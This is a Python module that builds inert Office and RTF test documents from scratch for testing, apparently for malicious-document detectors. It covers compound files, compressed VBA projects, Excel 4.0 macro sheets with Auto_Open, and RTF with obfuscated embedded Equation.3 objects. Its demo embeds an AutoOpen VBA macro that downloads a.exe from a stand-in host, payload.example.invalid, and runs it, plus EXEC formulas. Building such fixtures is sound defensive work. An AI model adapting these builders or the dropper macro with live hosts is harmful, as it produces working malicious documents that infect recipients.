"""mkoffice.py - harmless Office and RTF test documents, built from scratch.

Python 3 standard library only.  The documents carry macros and objects that look
like what campaigns send (auto-open, a fetch from example.com or .invalid, a run of
what was fetched) but do nothing here: the URLs do not resolve, no document is ever
opened by an Office program in the tests, and embedded data is zeros and the marker
INERT-TEST-FIXTURE.

    cfb(entries) -> bytes                 a Compound File (OLE2, [MS-CFB] version 3)
    ovba_compress(data) -> bytes          [MS-OVBA] 2.4.1 compression
    ovba_decompress(data) -> bytes        ... and its inverse (for self-checks)
    vba_project(modules) -> bytes         vbaProject.bin holding module sources
    ooxml_with_vba(kind, modules) -> bytes  .docm .xlsm .xlam .pptm .ppam
    ole_doc_with_vba(modules) -> bytes    a legacy .doc (Word 97 CFB) with a VBA project
    xls_with_xlm(formulas) -> bytes       a BIFF8 .xls with an Excel 4.0 macro sheet
    xlsm_with_xlm(formulas) -> bytes      an .xlsm with an XLM macro sheet (XML)
    rtf_with_object(class_name, data, obfuscate) -> bytes  RTF with an embedded OLE object

modules is a dict {module name: VBA source}; a name ending in "ThisDocument" or
"ThisWorkbook" is a document module, any other a standard module.  formulas is a list
of formula strings in a small dialect: NAME(ARG, ...) with string literals "..."
(double a quote to include one), integers and nested calls, e.g.
'EXEC("cmd /c echo INERT-TEST-FIXTURE")' or 'HALT()'.

Run as a program to write one of each into a directory: python3 mkoffice.py DIR
"""

import io
import os
import struct
import sys
import zipfile

MARKER = "INERT-TEST-FIXTURE"

# ---------------------------------------------------------------------------------
# Compound File Binary ([MS-CFB]), version 3: 512-byte sectors, 64-byte mini sectors

_SECTOR = 512
_MINI = 64
_CUTOFF = 4096
_FREE, _END, _FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_NOSTREAM = 0xFFFFFFFF


def _cfb_key(name):
    """CFB sibling order: shorter names first, then by upper-cased UTF-16"""
    return (len(name), name.upper())


class _Node:
    def __init__(self, name, data=None, clsid=b"\0" * 16):
        self.name = name
        self.data = data  # bytes for a stream, None for a storage
        self.children = {}
        self.clsid = clsid
        self.sid = 0
        self.left = self.right = self.child = _NOSTREAM
        self.start = _END
        self.size = 0


def cfb(entries, root_clsid=b"\0" * 16):
    """A compound file from ENTRIES: {"Storage/Sub/Stream": bytes}; storages are made
    from the paths (a path ending in "/" makes an empty storage)."""
    root = _Node("Root Entry", clsid=root_clsid)
    for path, data in entries.items():
        parts = [p for p in path.split("/") if p]
        node = root
        for i, part in enumerate(parts):
            last = i == len(parts) - 1 and not path.endswith("/")
            if part not in node.children:
                node.children[part] = _Node(part, data if last else None)
            node = node.children[part]
    # number the entries depth-first, and make each storage's children a balanced tree
    order = []

    def number(node):
        node.sid = len(order)
        order.append(node)
        for child in sorted(node.children.values(), key=lambda n: _cfb_key(n.name)):
            number(child)

    number(root)

    def tree(nodes):
        if not nodes:
            return _NOSTREAM
        mid = len(nodes) // 2
        n = nodes[mid]
        n.left = tree(nodes[:mid])
        n.right = tree(nodes[mid + 1:])
        return n.sid

    for node in order:
        if node.data is None:
            node.child = tree(sorted(node.children.values(), key=lambda n: _cfb_key(n.name)))

    # the mini stream (streams under 4096 bytes) and the regular streams
    mini = bytearray()
    minifat = []
    regular = []
    for node in order[1:]:
        if node.data is None:
            continue
        node.size = len(node.data)
        if node.size == 0:
            node.start = _END
        elif node.size < _CUTOFF:
            first = len(mini) // _MINI
            n = (node.size + _MINI - 1) // _MINI
            minifat.extend(list(range(first + 1, first + n)) + [_END])
            mini += node.data + b"\0" * (n * _MINI - node.size)
            node.start = first
        else:
            regular.append(node)

    sectors = []  # (payload bytes, chain) in file order; FAT filled afterwards
    fat = []

    def place(data):
        n = max(1, (len(data) + _SECTOR - 1) // _SECTOR)
        first = len(fat)
        fat.extend(list(range(first + 1, first + n)) + [_END])
        sectors.append(data + b"\0" * (n * _SECTOR - len(data)))
        return first

    root.size = len(mini)
    root.start = place(bytes(mini)) if mini else _END
    for node in regular:
        node.start = place(node.data)
    minifat_bytes = b"".join(struct.pack("<I", v) for v in minifat)
    minifat_start = place(minifat_bytes) if minifat else _END
    minifat_count = (len(minifat_bytes) + _SECTOR - 1) // _SECTOR if minifat else 0

    def entry(node):
        name = node.name.encode("utf-16-le")[:62]
        kind = 5 if node is root else (1 if node.data is None else 2)
        return (name + b"\0" * (64 - len(name)) +
                struct.pack("<HBBIII", len(name) + 2, kind, 1, node.left, node.right,
                            node.child) +
                node.clsid + struct.pack("<I", 0) + b"\0" * 16 +
                struct.pack("<IQ", node.start if kind != 1 else 0,
                            node.size if kind != 1 else 0))

    dirdata = b"".join(entry(n) for n in order)
    pad = (-len(order)) % 4
    dirdata += (b"\0" * 64 + struct.pack("<HBBIII", 0, 0, 0, _NOSTREAM, _NOSTREAM,
                                         _NOSTREAM) + b"\0" * 52) * pad
    dir_start = place(dirdata)
    # the FAT itself: enough sectors to describe every sector including its own
    nfat = 1
    while (len(fat) + nfat) > nfat * (_SECTOR // 4):
        nfat += 1
    if nfat > 109:
        raise ValueError("cfb: file too large for a header-only DIFAT")
    fat_start = len(fat)
    fat.extend([_FATSECT] * nfat)
    fat.extend([_FREE] * (nfat * (_SECTOR // 4) - len(fat)))
    fatdata = b"".join(struct.pack("<I", v) for v in fat)
    difat = list(range(fat_start, fat_start + nfat)) + [_FREE] * (109 - nfat)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 +
              struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
              struct.pack("<IIIIIIIII", 0, nfat, dir_start, 0, _CUTOFF, minifat_start,
                          minifat_count, _END, 0) +
              b"".join(struct.pack("<I", v) for v in difat))
    assert len(header) == 512
    return header + b"".join(sectors) + fatdata


# ---------------------------------------------------------------------------------
# [MS-OVBA] 2.4.1: compression of VBA source and of the dir stream


def _copy_bits(pos):
    """bits of a CopyToken's offset for a decompressed position POS in its chunk"""
    bits = 4
    while (1 << bits) < pos:
        bits += 1
    return min(bits, 12)


def _compress_chunk(chunk):
    out = bytearray()
    pos = 0
    while pos < len(chunk):
        flag_at = len(out)
        out.append(0)
        flags = 0
        for bit in range(8):
            if pos >= len(chunk):
                break
            best_len, best_off = 0, 0
            if pos > 0:
                bits = _copy_bits(pos)
                max_len = (0xFFFF >> bits) + 3
                start = max(0, pos - (1 << bits))
                for cand in range(pos - 1, start - 1, -1):
                    n = 0
                    while (n < max_len and pos + n < len(chunk) and
                           chunk[cand + n] == chunk[pos + n]):
                        n += 1
                    if n > best_len:
                        best_len, best_off = n, pos - cand
                        if n == max_len:
                            break
            if best_len >= 3:
                bits = _copy_bits(pos)
                token = ((best_off - 1) << (16 - bits)) | (best_len - 3)
                out += struct.pack("<H", token)
                flags |= 1 << bit
                pos += best_len
            else:
                out.append(chunk[pos])
                pos += 1
        out[flag_at] = flags
    return bytes(out)


def ovba_compress(data):
    """DATA as a CompressedContainer: signature 0x01, then chunks of 4096 bytes"""
    out = bytearray(b"\x01")
    for i in range(0, len(data), 4096):
        chunk = data[i:i + 4096]
        comp = _compress_chunk(chunk)
        if len(comp) <= 4096:
            out += struct.pack("<H", 0xB000 | (len(comp) + 2 - 3)) + comp
        else:
            # a raw chunk is always 4096 bytes long
            out += struct.pack("<H", 0x3000 | 0xFFF) + chunk + b"\0" * (4096 - len(chunk))
    return bytes(out)


def ovba_decompress(data):
    """the inverse of ovba_compress (any valid CompressedContainer)"""
    if not data or data[0] != 1:
        raise ValueError("not a CompressedContainer")
    out = bytearray()
    i = 1
    while i + 2 <= len(data):
        header = struct.unpack_from("<H", data, i)[0]
        size = (header & 0xFFF) + 3
        end = min(i + size, len(data))
        i += 2
        start = len(out)
        if not header & 0x8000:
            out += data[i:i + 4096]
            i += 4096
            continue
        while i < end:
            flags = data[i]
            i += 1
            for bit in range(8):
                if i >= end:
                    break
                if flags & (1 << bit):
                    token = struct.unpack_from("<H", data, i)[0]
                    i += 2
                    bits = _copy_bits(len(out) - start)
                    off = (token >> (16 - bits)) + 1
                    n = (token & (0xFFFF >> bits)) + 3
                    for _ in range(n):
                        out.append(out[-off])
                else:
                    out.append(data[i])
                    i += 1
    return bytes(out)


# ---------------------------------------------------------------------------------
# VBA project ([MS-OVBA] 2.3)


def _rec(rid, payload):
    return struct.pack("<HI", rid, len(payload)) + payload


def _is_document_module(name):
    return name.lower().startswith("this") or name.lower().startswith("sheet")


def _module_source(name, source):
    text = source.replace("\r\n", "\n").replace("\n", "\r\n")
    if not text.startswith("Attribute VB_Name"):
        text = 'Attribute VB_Name = "%s"\r\n' % name + text
    if not text.endswith("\r\n"):
        text += "\r\n"
    return text.encode("cp1252")


def _dir_stream(names):
    d = bytearray()
    d += _rec(0x0001, struct.pack("<I", 1))            # PROJECTSYSKIND: Win32
    d += _rec(0x004A, struct.pack("<I", 3))            # PROJECTCOMPATVERSION
    d += _rec(0x0002, struct.pack("<I", 0x409))        # PROJECTLCID
    d += _rec(0x0014, struct.pack("<I", 0x409))        # PROJECTLCIDINVOKE
    d += _rec(0x0003, struct.pack("<H", 1252))         # PROJECTCODEPAGE
    d += _rec(0x0004, b"VBAProject")                   # PROJECTNAME
    d += _rec(0x0005, b"") + _rec(0x0040, b"")         # PROJECTDOCSTRING
    d += _rec(0x0006, b"") + _rec(0x003D, b"")         # PROJECTHELPFILEPATH
    d += _rec(0x0007, struct.pack("<I", 0))            # PROJECTHELPCONTEXT
    d += _rec(0x0008, struct.pack("<I", 0))            # PROJECTLIBFLAGS
    d += struct.pack("<HIIH", 0x0009, 4, 1, 0)         # PROJECTVERSION
    d += _rec(0x000C, b"") + _rec(0x003C, b"")         # PROJECTCONSTANTS
    d += _rec(0x000F, struct.pack("<H", len(names)))   # PROJECTMODULES
    d += _rec(0x0013, struct.pack("<H", 0xFFFF))       # PROJECTCOOKIE
    for name in names:
        a, u = name.encode("cp1252"), name.encode("utf-16-le")
        d += _rec(0x0019, a) + _rec(0x0047, u)         # MODULENAME, ...UNICODE
        d += _rec(0x001A, a) + _rec(0x0032, u)         # MODULESTREAMNAME
        d += _rec(0x001C, b"") + _rec(0x0048, b"")     # MODULEDOCSTRING
        d += _rec(0x0031, struct.pack("<I", 0))        # MODULEOFFSET: source at 0
        d += _rec(0x001E, struct.pack("<I", 0))        # MODULEHELPCONTEXT
        d += _rec(0x002C, struct.pack("<H", 0xFFFF))   # MODULECOOKIE
        d += _rec(0x0022 if _is_document_module(name) else 0x0021, b"")  # MODULETYPE
        d += _rec(0x002B, b"")                         # terminator
    d += _rec(0x0010, b"")                             # end of dir
    return bytes(d)


def _project_stream(names):
    lines = ['ID="{00000000-0000-0000-0000-000000000000}"']
    for name in names:
        if _is_document_module(name):
            lines.append("Document=%s/&H00000000" % name)
        else:
            lines.append("Module=%s" % name)
    lines += ['Name="VBAProject"', 'HelpContextID="0"', 'VersionCompatible32="393222000"',
              "", "[Host Extender Info]",
              "&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000", "",
              "[Workspace]"]
    lines += ["%s=0, 0, 0, 0, C" % n for n in names]
    return ("\r\n".join(lines) + "\r\n").encode("cp1252")


def _vba_entries(modules, prefix=""):
    names = list(modules)
    e = {
        prefix + "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        prefix + "VBA/dir": ovba_compress(_dir_stream(names)),
        prefix + "PROJECT": _project_stream(names),
        prefix + "PROJECTwm": b"".join(n.encode("cp1252") + b"\0" + n.encode("utf-16-le") +
                                       b"\0\0" for n in names) + b"\0\0",
    }
    for name, source in modules.items():
        e[prefix + "VBA/" + name] = ovba_compress(_module_source(name, source))
    return e


def vba_project(modules):
    """vbaProject.bin (a CFB) holding MODULES {name: source}"""
    return cfb(_vba_entries(modules))


# ---------------------------------------------------------------------------------
# OOXML packages

_CT_MAIN = {
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsm": ("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "xlam": ("xl/workbook.xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml"),
    "pptm": ("ppt/presentation.xml",
             "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
    "ppam": ("ppt/presentation.xml", "application/vnd.ms-powerpoint.addin.macroEnabled.main+xml"),
}

_REL_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_REL_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_REL_SHEET = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
_REL_MACRO = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
_NS_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_NS_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _zip(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            info = zipfile.ZipInfo(name, date_time=(2020, 6, 8, 12, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


def _content_types(overrides):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
            "".join('<Override PartName="/%s" ContentType="%s"/>' % o for o in overrides) +
            "</Types>")


def _rels(rels):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
            "".join('<Relationship Id="rId%d" Type="%s" Target="%s"/>' % (i + 1, t, target)
                    for i, (t, target) in enumerate(rels)) + "</Relationships>")


def _ooxml(kind, vba=None, macrosheet=None):
    main, ctype = _CT_MAIN[kind]
    folder = main.split("/")[0]
    files = {}
    overrides = [(main, ctype)]
    part_rels = []
    if kind == "docm":
        files[main] = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                       '<w:document xmlns:w="http://schemas.openxmlformats.org/'
                       'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>%s</w:t></w:r>'
                       '</w:p></w:body></w:document>' % MARKER)
    elif kind in ("xlsm", "xlam"):
        sheets = '<sheet name="Sheet1" sheetId="1" r:id="rId2"/>'
        names = ""
        part_rels.append((_REL_SHEET, "worksheets/sheet1.xml"))
        files["xl/worksheets/sheet1.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<worksheet xmlns="%s"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>%s'
            '</t></is></c></row></sheetData></worksheet>' % (_NS_MAIN, MARKER))
        overrides.append(("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-"
                          "officedocument.spreadsheetml.worksheet+xml"))
        if macrosheet is not None:
            sheets += '<sheet name="Macro1" sheetId="2" r:id="rId3"/>'
            names = ('<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1'
                     '</definedName></definedNames>')
            part_rels.append((_REL_MACRO, "macrosheets/sheet1.xml"))
            files["xl/macrosheets/sheet1.xml"] = macrosheet
            overrides.append(("xl/macrosheets/sheet1.xml",
                              "application/vnd.ms-excel.macrosheet+xml"))
        files[main] = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                       '<workbook xmlns="%s" xmlns:r="%s"><sheets>%s</sheets>%s</workbook>'
                       % (_NS_MAIN, _NS_R, sheets, names))
    else:
        files[main] = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                       '<p:presentation xmlns:p="http://schemas.openxmlformats.org/'
                       'presentationml/2006/main"/>')
    if vba is not None:
        files[folder + "/vbaProject.bin"] = vba
        part_rels.insert(0, (_REL_VBA, "vbaProject.bin"))
    else:
        part_rels.insert(0, (_REL_SHEET if False else
                             "http://schemas.openxmlformats.org/officeDocument/2006/"
                             "relationships/theme", "theme/theme1.xml"))
    rel_path = folder + "/_rels/" + main.split("/")[1] + ".rels"
    out = {"[Content_Types].xml": _content_types(overrides),
           "_rels/.rels": _rels([(_REL_DOC, main)]),
           rel_path: _rels(part_rels)}
    out.update(files)
    return _zip(out)


def ooxml_with_vba(kind, modules):
    """an OOXML package of KIND (docm, xlsm, xlam, pptm, ppam) with vbaProject.bin"""
    if kind not in _CT_MAIN:
        raise ValueError("kind must be one of %s" % ", ".join(sorted(_CT_MAIN)))
    return _ooxml(kind, vba=vba_project(modules))


def _xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xlsm_with_xlm(formulas):
    """an .xlsm whose macro sheet (xl/macrosheets/sheet1.xml) holds FORMULAS in column A,
    with the _xlnm.Auto_Open name on A1"""
    cells = "".join('<row r="%d"><c r="A%d"><f>%s</f></c></row>' % (i + 1, i + 1,
                                                                   _xml_escape(f))
                    for i, f in enumerate(formulas))
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
             '<xm:macrosheet xmlns="%s" xmlns:xm="http://schemas.microsoft.com/office/excel/'
             '2006/main"><sheetData>%s</sheetData></xm:macrosheet>' % (_NS_MAIN, cells))
    return _ooxml("xlsm", macrosheet=sheet)


# ---------------------------------------------------------------------------------
# Word 97 document with a VBA project


def _fib():
    """a minimal Word 97 FIB: wIdent 0xA5EC, nFib 0x00C1, the rest zeros"""
    fib = bytearray(1472)
    struct.pack_into("<HH", fib, 0, 0xA5EC, 0x00C1)
    return bytes(fib) + MARKER.encode() + b"\0" * 2600


def ole_doc_with_vba(modules):
    """a legacy .doc: WordDocument and 1Table streams and Macros/ holding the project"""
    e = {"WordDocument": _fib(), "1Table": b"\0" * 512}
    e.update(_vba_entries(modules, "Macros/"))
    word_clsid = bytes.fromhex("0609020000000000c000000000000046")
    return cfb(e, root_clsid=word_clsid)


# ---------------------------------------------------------------------------------
# BIFF8 workbook with an Excel 4.0 macro sheet

# function numbers of the formula token table ([MS-XLS] 2.5.198.17 Ftab and Cetab,
# the latter with bit 15 set)
XLM_FUNCTIONS = {
    "IF": 1, "GOTO": 53, "HALT": 54, "RETURN": 55, "EXEC": 110, "CHAR": 111,
    "REGISTER": 149, "CALL": 150, "CONCATENATE": 336, "FOPEN": 132, "FCLOSE": 133,
    "FWRITELN": 137, "FWRITE": 138, "GET.WORKSPACE": 186, "RUN": 0x8011,
    "FORMULA": 0x8060, "FORMULA.FILL": 0x8061, "ALERT": 0x8076, "WAIT": 0x8095,
}


def _biff(opcode, payload):
    return struct.pack("<HH", opcode, len(payload)) + payload


class _FormulaParser:
    """NAME(ARG, ...), "string", integer -> BIFF8 parsed formula (RPN tokens)"""

    def __init__(self, text):
        self.s = text.lstrip("=")
        self.i = 0

    def ws(self):
        while self.i < len(self.s) and self.s[self.i] in " \t":
            self.i += 1

    def expr(self):
        self.ws()
        c = self.s[self.i:self.i + 1]
        if c == '"':
            j = self.i + 1
            out = ""
            while True:
                k = self.s.index('"', j)
                out += self.s[j:k]
                if self.s[k + 1:k + 2] == '"':
                    out += '"'
                    j = k + 2
                    continue
                self.i = k + 1
                break
            raw = out.encode("latin-1")[:255]
            return b"\x17" + bytes([len(raw), 0]) + raw          # ptgStr
        if c.isdigit():
            j = self.i
            while j < len(self.s) and self.s[j].isdigit():
                j += 1
            v = int(self.s[self.i:j])
            self.i = j
            return b"\x1e" + struct.pack("<H", v & 0xFFFF)       # ptgInt
        j = self.i
        while j < len(self.s) and (self.s[j].isalnum() or self.s[j] in "._"):
            j += 1
        name = self.s[self.i:j].upper()
        self.i = j
        self.ws()
        if self.s[self.i:self.i + 1] != "(":
            raise ValueError("formula: expected ( after %s" % name)
        self.i += 1
        args = []
        self.ws()
        if self.s[self.i:self.i + 1] != ")":
            while True:
                args.append(self.expr())
                self.ws()
                if self.s[self.i:self.i + 1] == ",":
                    self.i += 1
                    continue
                break
        self.ws()
        if self.s[self.i:self.i + 1] != ")":
            raise ValueError("formula: expected ) in %s" % self.s)
        self.i += 1
        if name not in XLM_FUNCTIONS:
            raise ValueError("formula: unknown function %s" % name)
        # ptgFuncVar (value class): argument count, then the function number
        return b"".join(args) + b"\x42" + bytes([len(args)]) + struct.pack(
            "<H", XLM_FUNCTIONS[name])


def _xlm_rgce(formula):
    return _FormulaParser(formula).expr()


def xls_with_xlm(formulas):
    """a BIFF8 .xls: a worksheet and a macro sheet "Macro1" holding FORMULAS in column A,
    the built-in name Auto_Open pointing at its A1"""
    def bof(dt):
        return _biff(0x0809, struct.pack("<HHHHII", 0x0600, dt, 0x0DBB, 0x07CC, 0x41, 6))

    def sheet_name(name):
        return bytes([len(name), 0]) + name.encode("latin-1")

    # the macro sheet's substream
    macro = bytearray(bof(0x0040))
    for row, f in enumerate(formulas):
        rgce = _xlm_rgce(f)
        macro += _biff(0x0006, struct.pack("<HHH", row, 0, 15) + b"\0" * 8 +
                       struct.pack("<HIH", 0, 0, len(rgce)) + rgce)
    macro += _biff(0x000A, b"")
    sheet = bof(0x0010) + _biff(0x000A, b"")
    # the globals: the Auto_Open name refers to Macro1!A1 (ptgRef3d)
    auto_open = (struct.pack("<HBBHHH", 0x0020, 0, 1, 7, 0, 0) + b"\0" * 4 + b"\0\x01" +
                 b"\x3a" + struct.pack("<HHH", 1, 0, 0))
    externsheet = _biff(0x0017, struct.pack("<H", 2) + struct.pack("<HHH", 0, 0, 0) +
                        struct.pack("<HHH", 0, 1, 1))
    head = bof(0x0005) + _biff(0x0042, struct.pack("<H", 1200))
    tail = _biff(0x000A, b"")

    def globals_with(pos_sheet, pos_macro):
        return (head +
                _biff(0x0085, struct.pack("<IBB", pos_sheet, 0, 0) + sheet_name("Sheet1")) +
                _biff(0x0085, struct.pack("<IBB", pos_macro, 0, 1) + sheet_name("Macro1")) +
                externsheet + _biff(0x0018, auto_open) + tail)

    g = globals_with(0, 0)
    wb = globals_with(len(g), len(g) + len(sheet)) + sheet + bytes(macro)
    # Excel pads the stream; 4096 bytes keeps it out of the mini stream
    wb += b"\0" * max(0, 4096 - len(wb))
    return cfb({"Workbook": wb, "\x05SummaryInformation": b"\0" * 64},
               root_clsid=bytes.fromhex("2008020000000000c000000000000046"))


# ---------------------------------------------------------------------------------
# RTF with an embedded OLE object


def _ole1_object(class_name, data):
    """an OLE 1.0 embedded object ([MS-OLEDS] 2.2.4 ObjectHeader + native data)"""
    cls = class_name.encode("latin-1") + b"\0"
    return (struct.pack("<II", 0x00000501, 0x00000002) + struct.pack("<I", len(cls)) + cls +
            struct.pack("<II", 0, 0) + struct.pack("<I", len(data)) + data)


def _obfuscated_hex(hexdigits):
    """HEXDIGITS broken the ways readers must undo: line breaks, spaces, tabs, mixed
    case and control words that RTF ignores inside \\objdata (deterministic)"""
    out = []
    junk = ["\r\n", " ", "\t", "\n", "\\dfrxst1 ", "{\\*\\mvjunk}", "  \r\n"]
    for i, c in enumerate(hexdigits):
        out.append(c.upper() if (i * 7) % 3 == 0 else c)
        if i % 5 == 2:
            out.append(junk[(i // 5) % len(junk)])
    return "".join(out)


def rtf_with_object(class_name, data=b"", obfuscate=False, pad=0, header="{\\rtf1",
                    objclass=True):
    """an RTF document with an embedded OLE object of CLASS_NAME holding DATA; with
    OBFUSCATE its hex is broken by white space, case and control words; PAD bytes of
    ordinary text come before the object; without OBJCLASS the class name is only in
    the object data's OLE 1.0 header, not in an \\objclass"""
    if not data:
        data = MARKER.encode() + b"\0" * 64
    hexdigits = _ole1_object(class_name, data).hex()
    objdata = _obfuscated_hex(hexdigits) if obfuscate else "\n".join(
        hexdigits[i:i + 128] for i in range(0, len(hexdigits), 128))
    filler = ""
    while len(filler) < pad:
        filler += "\\par %s lorem ipsum dolor sit amet, consectetur adipiscing elit.\n" % MARKER
    cls = class_name
    if obfuscate:
        cls = "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(class_name))
    return ("%s\\ansi\\deff0 {\\fonttbl{\\f0 Times New Roman;}}\n%s\n"
            "{\\object\\objemb\\objupdate%s\\objw380\\objh260"
            "{\\*\\objdata %s}{\\result{\\pict\\wmetafile8 00}}}\n\\par %s}\n"
            % (header, filler, "{\\*\\objclass %s}" % cls if objclass else "", objdata,
               MARKER)).encode("latin-1")


# ---------------------------------------------------------------------------------


def _demo(outdir):
    bad = {"Module1": 'Sub AutoOpen()\r\n'
                      '    \' ' + MARKER + '\r\n'
                      '    Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
                      '    x.Open "GET", "http://payload.example.invalid/a.bin", False\r\n'
                      '    URLDownloadToFile 0, "http://payload.example.invalid/a.exe", '
                      'Environ("TEMP") & "\\a.exe", 0, 0\r\n'
                      '    Shell Environ("TEMP") & "\\a.exe"\r\nEnd Sub\r\n'}
    files = {
        "fixture.docm": ooxml_with_vba("docm", bad),
        "fixture.xlsm": ooxml_with_vba("xlsm", bad),
        "fixture.xlam": ooxml_with_vba("xlam", bad),
        "fixture.ppam": ooxml_with_vba("ppam", bad),
        "fixture.doc": ole_doc_with_vba(bad),
        "fixture.xls": xls_with_xlm(['EXEC("cmd /c echo ' + MARKER + '")', "HALT()"]),
        "fixture-xlm.xlsm": xlsm_with_xlm(['EXEC("cmd /c echo ' + MARKER + '")', "HALT()"]),
        "fixture.rtf": rtf_with_object("Equation.3", obfuscate=True, pad=5000),
    }
    os.makedirs(outdir, exist_ok=True)
    for name, data in files.items():
        with open(os.path.join(outdir, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: mkoffice.py DIR")
    _demo(sys.argv[1])
